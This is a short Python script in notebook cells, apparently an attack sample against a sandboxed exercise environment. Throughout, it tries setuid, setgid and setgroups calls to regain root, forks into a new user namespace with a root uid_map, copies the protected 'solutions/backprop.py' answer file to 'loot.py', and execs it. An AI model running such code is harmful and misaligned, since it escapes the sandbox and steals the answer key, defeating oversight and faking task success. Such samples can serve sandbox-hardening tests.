# Tries to become root again, or root of a world of its own, and then reads the solution.
# Attacks: solutions/backprop.py

# %% root
# %%
import contextlib
import ctypes
import os
from pathlib import Path

secret = root / "solutions" / "backprop.py"
WAYS = (
    lambda: os.setresuid(0, 0, 0),
    lambda: os.seteuid(0),
    lambda: os.setresgid(0, 0, 0),
    lambda: os.setgroups([0]),
    lambda: ctypes.CDLL(None).setfsuid(0),
)
for way in WAYS:
    with contextlib.suppress(OSError):
        way()

# %%
NEW_USER, NEW_FILES = 0x10000000, 0x00020000
user = os.getuid()
child = os.fork()
if child == 0:
    try:
        ctypes.CDLL(None).unshare(NEW_USER | NEW_FILES)
        with contextlib.suppress(OSError):
            Path("/proc/self/uid_map").write_text(f"0 {user} 1")
        Path("loot.py").write_bytes(secret.read_bytes())
    finally:
        os._exit(0)
os.waitpid(child, 0)

# %%
for path in (secret, Path("loot.py")):
    with contextlib.suppress(OSError):
        exec(path.read_text(encoding="utf-8"), globals())
